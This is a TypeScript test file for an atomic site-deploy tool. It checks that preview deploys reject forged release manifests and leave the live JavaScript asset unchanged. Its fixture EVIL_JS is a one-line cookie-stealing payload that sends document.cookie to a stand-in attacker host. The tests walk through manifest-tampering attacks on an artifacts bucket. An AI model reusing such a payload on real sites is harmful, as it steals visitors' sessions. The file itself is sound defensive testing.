/**
 * Atomic releases share their content-hashed assets at one key, and a plan trusts what a kept
 * release's manifest says such an asset holds. Two ways a preview (which needs no approval and
 * should change nothing visitors get) rewrote the live release's script:
 * - whoever can write the artifacts bucket replaced the live build's manifest so it vouched for other
 *   bytes under the script's name, then published a build holding those bytes: the copy was planned
 *   as "changed" and never checked. Now every kept release's manifest is held to the digest the stack
 *   recorded for it (TAMPERED), and an asset whose size disagrees with its manifest is hashed first;
 * - a build with the live script's very bytes but a hand-written manifest giving it other headers
 *   (text/plain: browsers refuse such a module script): the copy rewrote the live object's headers.
 *   Now a shared asset a known release vouches for is never copied again.
 * `audit verify` saw nothing either way.
 */
import { createHash } from 'node:crypto';
import { cp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deployAtomic } from '../../src/deploy/atomic-deploy.ts';
import { previewLink } from '../../src/deploy/preview.ts';
import { planReleaseFiles } from '../../src/engine/atomic-plan.ts';
import { artifactFileKey, artifactManifestKey } from '../../src/engine/manifest.ts';
import type { Manifest } from '../../src/engine/types.ts';
import { verifyAudit } from '../../src/state/audit.ts';
import { APP, type AtomicEnv, type ReleaseBuild, request, startAtomicEnv } from '../support/atomic-env.ts';
import { publishAsCi, recordPublished } from '../support/deploy-env.ts';

const LIVE = '0101010101010101010101010101010101010101';
const EVIL = 'eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee';
const HEADERS = 'dddddddddddddddddddddddddddddddddddddddd';
const EVIL_JS = 'fetch("https://evil.example/?c="+document.cookie);\n';

let t: AtomicEnv;
let v1: ReleaseBuild;
let script: string;
let liveManifest: Buffer;

beforeAll(async () => {
  t = await startAtomicEnv({ retain: 3, stack: 'known-assets' });
  v1 = await t.publish(LIVE, 'v1');
  await deployAtomic(t.site, { app: APP, commit: LIVE, request: request() });
  script = Object.keys(v1.files).find((p) => p.startsWith('/assets/app-')) as string;
  liveManifest = (await t.site.artifacts.get(artifactManifestKey(APP, LIVE)))?.body as Buffer;
  // A build holding other bytes under the live script's name, published the normal way.
  const dir = join(t.tmp, 'evil');
  await cp(v1.dir, dir, { recursive: true });
  await writeFile(join(dir, script), EVIL_JS);
  await publishAsCi(t.site, { dir, app: APP, commit: EVIL });
});
afterAll(() => t?.stop());

const scriptHead = () => t.site.hosting.head(script.slice(1));
const scriptBytes = async () => (await t.site.hosting.get(script.slice(1)))?.body.toString('utf8');
/** The live manifest, its script's entry vouching for EVIL_JS. */
const vouchingForEvil = () => {
  const m = JSON.parse(liveManifest.toString('utf8')) as Manifest;
  const entry = m.files[script] as Manifest['files'][string];
  m.files[script] = {
    ...entry,
    sha256: createHash('sha256').update(EVIL_JS).digest('hex'),
    size: Buffer.byteLength(EVIL_JS),
  };
  return JSON.stringify(m);
};

describe("the live build's manifest made to vouch for other bytes under its script's name", () => {
  it.each([
    ['replaced in place', () => t.site.artifacts.put(artifactManifestKey(APP, LIVE), vouchingForEvil())],
    [
      'expired, then published again by the publisher (create-only)',
      async () => {
        await t.site.artifacts.delete([artifactManifestKey(APP, LIVE)]);
        await t.site.artifacts.put(artifactManifestKey(APP, LIVE), vouchingForEvil(), undefined, {
          ifNoneMatch: '*',
        });
      },
    ],
  ])('%s: a preview of the other build is refused (TAMPERED); the live script stays', async (_, forge) => {
    await forge();
    try {
      const mark = await t.mark();
      await expect(
        previewLink(t.site, { app: APP, commit: EVIL, request: request('preview'), verify: false }),
      ).rejects.toMatchObject({ code: 'TAMPERED' });
      expect(await scriptBytes()).toBe(v1.files[script]);
      const writes = (await t.requestsSince(mark)).filter((r) => !['GET', 'HEAD'].includes(r.method));
      expect(writes.filter((r) => !/lock/.test(r.key ?? '')).map((r) => `${r.method} ${r.key}`)).toEqual([]);
    } finally {
      await t.site.artifacts.put(artifactManifestKey(APP, LIVE), liveManifest);
    }
  });

  it('with the manifest as published, the other build is refused as a clash (CONFLICT), as before', async () => {
    await expect(
      previewLink(t.site, { app: APP, commit: EVIL, request: request('preview'), verify: false }),
    ).rejects.toMatchObject({ code: 'CONFLICT' });
    expect(await scriptBytes()).toBe(v1.files[script]);
    expect((await verifyAudit(t.site.state, t.target.statePrefix)).problems).toEqual([]);
  });
});

describe("a build with the live script's bytes and a manifest giving it other headers", () => {
  it('a preview leaves the live object as it is: same bytes are not copied again, whatever the headers', async () => {
    // The CI publisher's hand-written manifest: the live build's files, the script as text/plain.
    const manifest = JSON.parse(liveManifest.toString('utf8')) as Manifest;
    manifest.commit = HEADERS;
    manifest.files[script] = {
      ...(manifest.files[script] as Manifest['files'][string]),
      contentType: 'text/plain',
      cacheControl: 'no-store',
    };
    for (const path of Object.keys(manifest.files))
      await t.site.artifacts.put(artifactFileKey(APP, HEADERS, path), v1.files[path] as string);
    await t.site.artifacts.put(artifactManifestKey(APP, HEADERS), JSON.stringify(manifest));
    await recordPublished(t.site, manifest);
    const before = await scriptHead();
    expect(before?.contentType).toMatch(/javascript/);
    await previewLink(t.site, { app: APP, commit: HEADERS, request: request('preview'), verify: false });
    const after = await scriptHead();
    expect([after?.contentType, after?.cacheControl, after?.etag]).toEqual([
      before?.contentType,
      before?.cacheControl,
      before?.etag,
    ]);
    expect((await verifyAudit(t.site.state, t.target.statePrefix)).problems).toEqual([]);
  });
});

describe('planReleaseFiles', () => {
  const entry = { sha256: 'a'.repeat(64), size: 10, contentType: 'text/javascript', cacheControl: 'x' };
  const release = (commit: string, files: Manifest['files']) => ({
    releaseId: `${commit.slice(0, 7)}-0000000000`,
    app: APP,
    commit,
    artifactDigest: 'sha256:0',
    manifest: { app: APP, commit, createdAt: '', files },
  });
  const known = [release(LIVE, { '/assets/app-AbCdEf12.js': entry })];
  const plan = (size: number, files: Manifest['files']) =>
    planReleaseFiles({
      release: release(EVIL, files),
      hosting: new Map([['assets/app-AbCdEf12.js', size]]),
      known,
    }).copies.map((c) => c.reason);

  it("an asset whose size in the bucket is not its manifest's is hashed before it is copied", () => {
    expect(plan(11, { '/assets/app-AbCdEf12.js': entry })).toEqual(['unverified']);
  });
  it('an asset a known release vouches for is not copied, even with other headers', () => {
    expect(plan(10, { '/assets/app-AbCdEf12.js': { ...entry, contentType: 'text/plain' } })).toEqual([]);
  });
});
